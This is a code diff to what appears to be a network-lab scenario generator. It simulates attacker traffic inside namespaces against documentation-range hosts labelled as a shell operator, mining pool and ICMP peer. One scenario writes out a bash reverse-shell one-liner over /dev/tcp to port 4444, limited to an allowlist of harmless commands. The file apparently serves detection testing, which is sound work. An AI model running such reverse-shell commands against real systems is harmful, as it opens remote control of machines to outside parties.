@@ -60,7 +60,7 @@ export const TUNNEL_ZONE = 't.corp-tunnel.example';
 export const ICMP_PEER: LabHost = { id: 'o-icmp', ip: '203.0.113.70', role: 'outside' };
 export const SHELL_OPERATOR: LabHost = { id: 'o-shell', ip: '203.0.113.71', role: 'outside' };
 export const MINING_POOL: LabHost = { id: 'o-pool', ip: '203.0.113.72', role: 'outside' };
-/** Commands the reverse shell runs (the operator daemon sends only these; the shell refuses others). */
+/** Commands the operator sends (given to its daemon) and the only ones the reverse shell runs. */
 const SHELL_COMMANDS = [
   'id',
   'whoami',
@@ -432,7 +432,7 @@ export const SCENARIOS: ScenarioSpec[] = [
       const allowed = SHELL_COMMANDS.map((x) => `"${x}"`).join('|');
       return lines(
         `cd ${c.dir}`,
-        `ip netns exec ${nsName(SHELL_OPERATOR)} ${process.execPath} ${join(DAEMONS, 'shell-operator.mjs')} ${SHELL_OPERATOR.ip} 4444 ${c.seed} 20 > operator.log 2>&1 &`,
+        `ip netns exec ${nsName(SHELL_OPERATOR)} ${process.execPath} ${join(DAEMONS, 'shell-operator.mjs')} ${SHELL_OPERATOR.ip} 4444 ${c.seed} 20 ${SHELL_COMMANDS.map((x) => `'${x}'`).join(' ')} > operator.log 2>&1 &`,
         'sleep 1',
         `timeout ${Math.max(3, Math.floor(c.limit - 2))} bash -c 'exec 3<>/dev/tcp/${SHELL_OPERATOR.ip}/4444 || exit 0; while IFS= read -r c <&3; do case "$c" in ${allowed}) $c >&3 2>&1 ;; *) break ;; esac; done' || true`,
         'kill $(jobs -p) 2>/dev/null',
